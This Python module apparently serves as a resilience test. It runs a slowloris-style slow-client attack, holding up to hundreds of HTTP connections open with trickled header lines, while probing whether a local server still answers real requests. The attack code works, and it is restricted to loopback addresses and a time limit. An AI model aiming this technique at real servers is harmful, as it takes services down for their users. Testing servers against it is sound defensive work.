"""Slow clients ("slowloris"): many connections that each send a request header line only
every few seconds, never finishing, while a prober checks that real visitors are served.

Loopback only and bounded: ``attack`` refuses any address outside 127.0.0.0/8 and stops by
itself after ``seconds``; each connection is replaced when the server drops it, so the
pressure holds for the whole run.
"""

from __future__ import annotations

import ipaddress
import socket
import threading
import time
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import requests


@dataclass
class ProbeResult:
    """What a visitor saw during the attack: one entry per probe."""

    statuses: list[int] = field(default_factory=list)  # 0: no answer within the timeout
    seconds: list[float] = field(default_factory=list)

    @property
    def served(self) -> int:
        return sum(1 for status in self.statuses if status == 200)


def _loopback(url: str) -> tuple[str, int]:
    parts = urlsplit(url)
    host = parts.hostname or ""
    if host != "localhost" and not ipaddress.ip_address(host).is_loopback:
        raise ValueError(f"slow clients are for loopback servers only, not {host}")
    return host, parts.port or 80


def _slow_connection(host: str, port: int, stop: threading.Event, interval: float) -> None:
    while not stop.is_set():
        try:
            with socket.create_connection((host, port), timeout=5) as conn:
                conn.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n")
                while not stop.wait(interval):
                    conn.sendall(b"X-Slow: 1\r\n")  # never the blank line that ends a header
        except OSError:
            stop.wait(0.2)  # dropped by the server: come back, as an attacker would


def attack(url: str, *, connections: int = 200, seconds: float = 30.0, interval: float = 5.0,
           probe_paths: tuple[str, ...] = ("/healthz",), probe_every: float = 3.0,
           probe_timeout: float = 5.0) -> dict[str, ProbeResult]:
    """Hold ``connections`` slow connections open against ``url`` for ``seconds`` while
    probing ``probe_paths`` every ``probe_every`` seconds; return what the probes saw."""
    host, port = _loopback(url)
    stop = threading.Event()
    threads = [threading.Thread(target=_slow_connection, args=(host, port, stop, interval),
                                daemon=True) for _ in range(connections)]
    for thread in threads:
        thread.start()
    results = {path: ProbeResult() for path in probe_paths}
    time.sleep(min(2.0, seconds / 4))  # let the connections pile up first
    deadline = time.monotonic() + seconds
    try:
        while time.monotonic() < deadline:
            for path in probe_paths:
                _probe(url + path, results[path], probe_timeout)
            time.sleep(probe_every)
    finally:
        stop.set()
        for thread in threads:
            thread.join(timeout=10)
    return results


def _probe(url: str, result: ProbeResult, timeout: float) -> None:
    started = time.monotonic()
    try:
        status = requests.get(url, timeout=timeout).status_code
    except requests.RequestException:
        status = 0
    result.statuses.append(status)
    result.seconds.append(time.monotonic() - started)
